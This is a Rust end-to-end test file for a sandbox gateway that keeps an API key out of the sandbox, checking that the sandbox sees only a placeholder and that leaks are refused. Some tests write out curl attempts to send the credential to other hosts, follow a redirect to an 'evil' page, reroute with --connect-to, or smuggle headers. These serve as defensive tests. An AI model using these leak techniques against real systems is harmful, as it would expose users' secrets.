//! Secrets: the sandbox uses a value that it never sees.

mod leaks;
mod request_parts;
mod sources;

use crate::testnet::{TestNet, TestUser};
use msb_e2e::{CmdOutput, ends, eventually};
use std::process::Command;

/// A value that occurs nowhere else, another for each test and user.
fn value(user: &TestUser, test: &str) -> String {
    format!("sk-{test}-{}-Zq7Xw9Kd3VtR1mPf", user.msb.uid())
}

const FLAGS: [&str; 2] = ["--secret", "API_KEY@api.example.com"];

/// Runs a script in a new sandbox with a gateway that has the value of `API_KEY`.
#[track_caller]
fn with_value(user: &TestUser, value: &str, flags: &[&str], script: &str) -> CmdOutput {
    let mut command = user.inside_command(flags, script);
    ends(command.env("API_KEY", value).spawn().expect("msb can be executed"))
}

/// Makes a sandbox with a gateway that has the value of `API_KEY`.
#[track_caller]
fn lasting(user: &TestUser, value: &str, name: &str, flags: &[&str]) {
    let mut command: Command = user.lasting_command(name, flags);
    ends(command.env("API_KEY", value).spawn().expect("msb can be executed")).ok();
}

/// The headers of that name in a request that arrived.
fn header(request: &serde_json::Value, name: &str) -> Vec<String> {
    let headers = request["headers"].as_array().expect("headers");
    let is_it = headers.iter().filter(|pair| pair[0] == name);
    is_it.map(|pair| pair[1].as_str().unwrap_or_default().to_owned()).collect()
}

/// The one request that arrived for a path with this word.
#[track_caller]
fn arrived(user: &TestUser, word: &str) -> serde_json::Value {
    let requests = user.net.requests(word);
    assert_eq!(requests.len(), 1, "{requests:#?}");
    requests[0].clone()
}

#[test]
fn the_value_arrives_and_the_sandbox_sees_a_placeholder() {
    for user in TestNet::users() {
        let value = value(&user, "arrives");
        let word = format!("arrives-{}", user.msb.uid());
        let script = format!(
            "echo \"$API_KEY\"; curl -sS https://api.example.com/{word} \
             -H \"Authorization: Bearer $API_KEY\""
        );
        let gave = with_value(&user, &value, &FLAGS, &script).ok();
        assert_eq!(header(&arrived(&user, &word), "authorization"), [format!("Bearer {value}")]);
        // The server says back what it got; the sandbox sees as many stars.
        assert!(!gave.stdout.contains(&value), "{gave:#?}");
        let stars = format!("Bearer {}\"", "*".repeat(value.len()));
        assert!(gave.stdout.contains(&stars), "{gave:#?}");
        let placeholder = gave.stdout.lines().next().unwrap();
        assert!(placeholder.len() > 8 && !value.contains(placeholder), "{placeholder}");
    }
}

#[test]
fn other_hosts_are_not_intercepted() {
    for user in TestNet::users() {
        let value = value(&user, "others");
        let script = "curl -sS --cacert /world/ca.pem https://other.example.com/ -o /dev/null \
                      -w '%{http_code} %{ssl_verify_result}\\n'; \
                      curl -sS https://api.example.com/ -o /dev/null -w '%{http_code}\\n'";
        let gave = with_value(&user, &value, &FLAGS, script);
        assert_eq!(gave.line(), "200 0\n200");
    }
}

/// Attack 39.
#[test]
fn a_placeholder_sent_to_another_host_is_refused_and_recorded() {
    for user in TestNet::users() {
        let value = value(&user, "else");
        let word = format!("else-{}", user.msb.uid());
        lasting(&user, &value, "net", &FLAGS);
        let script = format!(
            "for url in http://other.example.com http://203.0.113.21 http://api.example.com; do \
             curl -s -o /dev/null -w '%{{http_code}}\\n' $url/{word} \
             -H \"Authorization: Bearer $API_KEY\"; done; \
             curl -sS -o /dev/null -w '%{{http_code}}\\n' http://other.example.com/plain-{word}"
        );
        let gave = user.within("net", &script).ok();
        assert_eq!(gave.stdout, "403\n403\n403\n200\n", "{gave:#?}");
        let requests = user.net.requests(&word);
        assert_eq!(requests.len(), 1, "{requests:#?}");
        let denied = || {
            let mut events = user.events("net", "API_KEY");
            events.retain(|event| event["decided"]["decision"] == "deny");
            events
        };
        eventually("all three are told", || denied().len() == 3);
        let denied = denied();
        assert_eq!(denied[0]["decided"]["secrets"][0], "API_KEY");
    }
}

/// Attack 39: a redirect does not carry it elsewhere.
#[test]
fn a_redirect_to_another_host_does_not_carry_the_value() {
    for user in TestNet::users() {
        let value = value(&user, "redirect");
        let script = "curl -sS -L --location-trusted --cacert /world/both.pem \
                      https://api.example.com/redirect -H \"Authorization: Bearer $API_KEY\"";
        let script = format!("cat /world/ca.pem \"$SSL_CERT_FILE\" >/tmp/both.pem; {script}")
            .replace("/world/both.pem", "/tmp/both.pem");
        let gave = with_value(&user, &value, &FLAGS, &script);
        assert_eq!(gave.line(), "evil");
        let log = user.net.log("access");
        assert!(log.contains("/landed"), "{log}");
        assert!(!log.contains(&value), "{log}");
    }
}

/// Only a server with a valid certificate for the host gets it.
#[test]
fn the_value_goes_to_no_server_without_a_valid_certificate() {
    for user in TestNet::users() {
        let value = value(&user, "proof");
        let flags = ["--secret", "API_KEY@untrusted.example.com"];
        let script = "curl -sk -o /dev/null -w '%{http_code}\\n' https://untrusted.example.com/ \
                      -H \"Authorization: Bearer $API_KEY\"; true";
        let gave = with_value(&user, &value, &flags, script).ok();
        assert!(["502\n", "000\n"].contains(&gave.stdout.as_str()), "{gave:#?}");
        assert!(!user.net.log("access").contains(&value));
        // Nor by a name with an address that the guest chose.
        let script = "curl -sk -o /dev/null -w '%{http_code}\\n' \
                      --connect-to api.example.com:443:203.0.113.12:443 \
                      https://api.example.com/fronted -H \"Authorization: Bearer $API_KEY\"; true";
        with_value(&user, &value, &FLAGS, script).ok();
        assert!(!user.net.log("access").contains(&value));
    }
}

#[test]
fn requests_without_the_placeholder_are_refused_where_it_is_required() {
    for user in TestNet::users() {
        let value = value(&user, "require");
        let word = format!("require-{}", user.msb.uid());
        let flags = [&FLAGS[..], &["--secret-require"]].concat();
        let script = format!(
            "curl -sS -w '%{{http_code}}\\n' https://api.example.com/no-{word} | tail -1; \
             curl -sS -o /dev/null -w '%{{http_code}}\\n' https://api.example.com/yes-{word} \
             -H \"x-api-key: $API_KEY\""
        );
        let gave = with_value(&user, &value, &flags, &script).ok();
        assert!(gave.stdout.contains("403\n") && gave.stdout.ends_with("200\n"), "{gave:#?}");
        let requests = user.net.requests(&word);
        assert_eq!(requests.len(), 1, "{requests:#?}");
    }
}

/// The server could take the other credential, or get none.
#[test]
fn a_required_secret_is_the_only_credential_that_goes_out() {
    for user in TestNet::users() {
        let value = value(&user, "rival");
        let word = format!("rival-{}", user.msb.uid());
        let flags = [&FLAGS[..], &["--secret-require"]].concat();
        let own = "-H \"Authorization: Bearer $API_KEY\"";
        let curls: String = [
            format!("{own} -H 'Authorization: Bearer mine'"),
            format!("-H 'Authorization: Bearer mine' {own}"),
            format!("{own} -H 'x-api-key: mine'"),
            format!("{own} -H 'Private-Token: mine'"),
            "-H \"Authorization: Bearer mine, Bearer $API_KEY\"".to_owned(),
            "-H \"x-api-key: $API_KEY\" -H 'Connection: x-api-key'".to_owned(),
            "-H \"x-api-key: $API_KEY\" -H 'Connection: close, X-Api-Key'".to_owned(),
            format!("-X TRACE {own}"),
            format!("-X trace {own}"),
        ]
        .iter()
        .map(|how| {
            let url = format!("https://api.example.com/{word}");
            format!("curl -s -o /dev/null -w '%{{http_code}}\\n' {how} {url}; ")
        })
        .collect();
        let gave = with_value(&user, &value, &flags, &format!("{curls} true")).ok();
        let wanted = [vec!["403"; 7], vec!["405"; 2]].concat();
        assert_eq!(gave.stdout.lines().collect::<Vec<_>>(), wanted, "{gave:#?}");
        let arrived = user.net.requests(&word);
        assert!(arrived.is_empty(), "{arrived:#?}");
    }
}

/// Answers that are not read are not held for the sandbox without bound.
#[test]
fn unread_answers_take_little_of_the_hosts_memory() {
    for user in TestNet::users() {
        let value = value(&user, "unread");
        lasting(&user, &value, "net", &["--secret", "API_KEY@h2.example.com"]);
        let script = "/usr/bin/python3 /world/web.py unread h2.example.com 80";
        assert_eq!(user.within("net", script).line(), "all");
        let processes = user.msb.processes("net");
        let gateway = processes.iter().find(|process| process.name == "msb-gateway").unwrap();
        let told = |file: &str, line: &str| -> u64 {
            let text = std::fs::read_to_string(format!("/proc/{}/{file}", gateway.pid)).unwrap();
            let rest = text.lines().find_map(|one| one.strip_prefix(line)).unwrap();
            rest.split_whitespace().next().unwrap().parse().unwrap()
        };
        let peak = told("status", "VmHWM:");
        assert!(peak < 128 << 10, "{peak} KiB");
        // The kernel holds it to what the Plan says.
        let inspected = user.json(["inspect", "net"]);
        let limit = &inspected["plan"]["network"]["gateway_memory"];
        let wanted = told("limits", "Max data size").to_string();
        assert_eq!(limit.as_str(), Some(wanted.as_str()), "{inspected:#}");
    }
}
